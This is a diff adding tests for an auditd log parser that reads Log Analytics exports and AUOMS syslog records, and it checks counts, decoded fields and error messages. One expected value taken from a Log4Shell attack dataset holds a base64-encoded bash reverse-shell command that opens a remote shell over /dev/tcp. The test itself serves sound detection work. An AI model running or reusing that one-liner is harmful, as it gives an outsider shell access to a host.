@@ -75,6 +75,131 @@ hk_in "$ARP" run "auditd path=- | count | csv"
 is "$out" "count
 2" "standard input"
 
+# --- Log Analytics pre-parsed form (linux_events.csv) ------------------------
+# Expected values from python3: csv.DictReader + ast.literal_eval of
+# AuditdMessage, record bodies joined from the items, bytes.fromhex for the
+# hex fields; the time and serial from mssg_id.
+LA="$DATA/auditd/linux_events.csv"
+AUOMS="$DATA/auditd/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"
+
+hk run "auditd path=$LA | count by event_type | csv"
+is "$rc" 0 "loganalytics: reads (format=auto)"
+is "$out" 'event_type,count
+"SYSCALL,EXECVE,CWD,PATH,PROCTITLE",82
+CRED_DISP,4
+USER_END,4
+USER_START,3
+CRED_REFR,2
+USER_CMD,2
+CRED_ACQ,1
+LOGIN,1
+USER_ACCT,1' "loganalytics: 100 rows, one event each, types as in raw logs"
+is "$err" "" "loganalytics: no warnings"
+
+hk run "auditd path=$LA format=loganalytics | where serial == 9077924 | select TimeGenerated, event_type, node, pid, ppid, uid, auid, ses, syscall, success, exit, exe, comm, key, tty, cwd, cmdline, proctitle, paths | ndjson"
+is "$out" '{"TimeGenerated":"2019-02-18T16:00:32.285Z","event_type":"SYSCALL,EXECVE,CWD,PATH,PROCTITLE","node":"MSTICAlertsLxVM2","pid":28066,"ppid":22536,"uid":0,"auid":-1,"ses":-1,"syscall":59,"success":true,"exit":0,"exe":"/bin/dash","comm":"sh","key":null,"tty":null,"cwd":"/var/lib/waagent/WALinuxAgent-2.2.36","cmdline":"/bin/sh -c \"iptables --version\"","proctitle":"/bin/sh -c iptables --version","paths":"/bin/sh;/lib64/ld-linux-x86-64.so.2"}' \
+  "loganalytics: time and serial from mssg_id, Computer as node, hex a2 and proctitle decoded"
+
+# 'msg=\'cwd="/"' in the Python literal: escaped quote, nested msg fields
+hk run "auditd path=$LA | where serial == 9077982 | select TimeGenerated, event_type, pid, uid, cwd, terminal, res, fields | ndjson"
+is "$out" '{"TimeGenerated":"2019-02-18T16:01:27.320Z","event_type":"USER_CMD","pid":28129,"uid":998,"cwd":"/","terminal":null,"res":"success","fields":"{\"USER_CMD\":[{\"pid\":\"28129\",\"uid\":\"998\",\"auid\":\"4294967295\",\"ses\":\"4294967295\",\"cwd\":\"/\",\"cmd\":\"/opt/microsoft/omsagent/ruby/bin/ruby /opt/microsoft/omsagent/plugin/tailfilereader.rb /var/log/audit/audit.log -p /var/opt/microsoft/omsagent/state/CUSTOM_LOG_BLOB.AuditLog_CL_52b1ab41-869e-4138-9e40-2a4457f09bf0.pos\",\"terminal\":\"?\",\"res\":\"success\"}]}"}' \
+  "loganalytics: escaped quotes in the literal, USER_CMD cmd decoded"
+
+hk run "auditd path=$LA | where event_type == \"SYSCALL,EXECVE,CWD,PATH,PROCTITLE\" | count by exe | csv"
+is "$out" "exe,count
+/bin/dash,40
+/sbin/xtables-multi,35
+/bin/ip,3
+/usr/bin/sudo,2
+/opt/microsoft/omsagent/ruby/bin/ruby,1
+/usr/bin/test,1" "loganalytics: exec events by exe"
+
+# the same rows as NDJSON, AuditdMessage as a JSON array (a Log Analytics
+# JSON export), and raw audit.log lines in the column (MSTICPy accepts both)
+cat >"$T/la.ndjson" <<'EOF'
+{"Computer":"lx1","mssg_id":"1550505632.285:9077924","AuditdMessage":[{"SYSCALL":["syscall=59","success=yes","exit=0","ppid=1","pid=28066","uid=0","exe=\"/bin/dash\""]},{"EXECVE":["argc=2","a0=\"ls\"","a1=2D6C61"]}]}
+{"Computer":"lx1","mssg_id":"x","AuditdMessage":"[{'USER_END': ['pid=1']}]"}
+{"Computer":"lx1","mssg_id":"1550505633.000:7","AuditdMessage":"[{'USER_END': ['pid=2', 'res=success']}"}
+{"Computer":"lx1","mssg_id":"1550505634.5:8","AuditdMessage":"type=USER_END msg=audit(1550505634.500:8): pid=3 res=success"}
+EOF
+hk run "auditd path=$T/la.ndjson on_error=skip | select TimeGenerated, serial, node, pid, cmdline, res | csv"
+is "$out" "TimeGenerated,serial,node,pid,cmdline,res
+2019-02-18T16:00:32.285Z,9077924,lx1,28066,ls -la,
+2019-02-18T16:00:34.500Z,8,lx1,3,,success" "loganalytics NDJSON: JSON arrays, raw lines in AuditdMessage"
+like "$err" "auditd: $T/la.ndjson:2: mssg_id 'x' is not SECONDS.FRACTION:SERIAL; row skipped (on_error=skip)" \
+  "loganalytics: bad mssg_id named with file and line"
+like "$err" "auditd: $T/la.ndjson:3: AuditdMessage is not a list of {'TYPE': [fields]}: at character 40 expected ',' or ']' after a record; row skipped (on_error=skip)" \
+  "loganalytics: broken literal: where and what was expected"
+like "$err" "skipped 2 malformed rows (on_error=skip)" "loganalytics: total"
+
+printf ',Computer,AuditdMessage\n0,lx1,"[]"\n' >"$T/nomsgid.csv"
+hk run "auditd path=$T/nomsgid.csv | csv"
+[ "$rc" -ne 0 ]; ok $? "loganalytics: a CSV without mssg_id is refused"
+like "$err" "auditd: $T/nomsgid.csv:1: no mssg_id column in the header (format=loganalytics expects mssg_id and AuditdMessage columns)" \
+  "loganalytics: the missing column is named"
+
+# --- AUOMS records in syslog (OTRF Log4Shell, Sentinel Syslog rows) ----------
+# Expected values from python3: json.loads per line, a regex tokenizer for
+# AUOMS's fields (quoted values end at '" key=', unquoted ones at ' key='),
+# json.loads of path_name.
+hk run "auditd path=$AUOMS | count by event_type, success | csv"
+is "$out" "event_type,success,count
+AUOMS_EXECVE,true,27
+AUOMS_EXECVE,false,23" "auoms: 50 rows, one event each; success typed"
+is "$err" "" "auoms: no warnings"
+
+hk run "auditd path=$AUOMS format=auoms | count by exe | csv"
+is "$out" "exe,count
+/usr/bin/dpkg,16
+/opt/microsoft/dependency-agent/bin/microsoft-dependency-agent,6
+/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java,5
+/usr/bin/dpkg-query,4
+/bin/bash,3
+/bin/dash,2
+/usr/bin/basename,2
+/usr/bin/dircolors,2
+/usr/bin/dirname,2
+/usr/bin/groups,2
+/usr/bin/man,2
+/usr/bin/whatis,2
+/usr/bin/base64,1
+/usr/bin/whoami,1" "auoms: events by exe"
+
+# the exploit: java (tomcat) starts bash with a base64 reverse shell
+hk run "auditd path=$AUOMS | where serial == 84143 | select TimeGenerated, event_type, node, pid, ppid, uid, auid, ses, syscall, success, exit, exe, comm, key, tty, cwd, cmdline, proctitle, paths | ndjson"
+is "$out" '{"TimeGenerated":"2022-05-11T18:10:21.990Z","event_type":"AUOMS_EXECVE","node":"UBUNTU5","pid":17790,"ppid":1340,"uid":1001,"auid":-1,"ses":-1,"syscall":59,"success":true,"exit":0,"exe":"/bin/bash","comm":"bash","key":"auoms,delete","tty":null,"cwd":"/","cmdline":"bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"","proctitle":null,"paths":"/bin/bash;/lib64/ld-linux-x86-64.so.2"}' \
+  "auoms: quotes inside cmdline kept, syscall from syscall_r, paths from path_name"
+
+# a failed exec: no cmdline, an unquoted proctitle with spaces
+hk run "auditd path=$AUOMS | where serial == 84155 | select pid, ppid, uid, success, exit, exe, cmdline, proctitle, paths | csv"
+is "$out" "pid,ppid,uid,success,exit,exe,cmdline,proctitle,paths
+17807,2813,65534,false,-2,/opt/microsoft/dependency-agent/bin/microsoft-dependency-agent,,/opt/microsoft/dependency-agent/bin/microsoft-dependency-agent,/sbin/man" \
+  "auoms: failed exec, proctitle up to the next key"
+
+hk run "auditd path=$AUOMS | where cmdline != null | count | csv"
+is "$out" "count
+27" "auoms: 27 events carry a cmdline"
+
+# AUOMS and audisp records in plain syslog lines, among other programs'
+cat >"$T/auoms.log" <<'EOF'
+May 11 18:10:21 UBUNTU5 auoms[812]: type=AUOMS_EXECVE audit(1652292621.990:84143): SchemaVersion="1" node=UBUNTU5 syscall=execve syscall_r=59 success=yes exit=0 ppid=1340 pid=17790 uid=1001 comm="bash" exe="/bin/bash" path_name=["/bin/bash"] argc=3 cmdline="bash -c "id"" redactors= containerid=
+May 11 18:10:22 UBUNTU5 sshd[99]: Accepted publickey for alice from 10.0.0.5 port 50000 ssh2
+May 11 18:10:23 web1 audispd: node=web1 type=SYSCALL msg=audit(1652292623.100:5): syscall=59 success=yes exit=0 pid=42 uid=0 comm="id" exe="/usr/bin/id"
+May 11 18:10:23 web1 audispd: node=web1 type=EXECVE msg=audit(1652292623.100:5): argc=1 a0="id"
+May 11 18:10:24 UBUNTU5 auoms[812]: type=AUOMS_EXECVE audit(1652292624.x:1): pid=1
+EOF
+hk run -v "auditd path=$T/auoms.log format=auoms on_error=skip | select TimeGenerated, serial, event_type, node, pid, exe, cmdline, paths | csv"
+is "$out" "TimeGenerated,serial,event_type,node,pid,exe,cmdline,paths
+2022-05-11T18:10:21.990Z,84143,AUOMS_EXECVE,UBUNTU5,17790,/bin/bash,\"bash -c \"\"id\"\"\",/bin/bash
+2022-05-11T18:10:23.100Z,5,\"SYSCALL,EXECVE\",web1,42,/usr/bin/id,id," "auoms lines: records after syslog headers, audisp records grouped"
+like "$err" "auditd: $T/auoms.log:5: not a well-formed audit record (expected 'type=... audit(SECONDS.FRACTION:SERIAL): ...' after the syslog header); line skipped (on_error=skip)" \
+  "auoms lines: a broken record is malformed"
+like "$err" "1 lines held no audit record" "auoms lines: other programs' lines counted (info)"
+
+hk run "auditd path=$T/auoms.log | count | csv"
+[ "$rc" -ne 0 ]; ok $? "auto: syslog lines with AUOMS are found, the broken one fails the run"
+like "$err" "$T/auoms.log:5: not a well-formed audit record" "auto: chose auoms from the first line"
+
 # --- edge cases -------------------------------------------------------------
 
 # interleaved events, EOE, node= prefix, long arguments split in pieces,
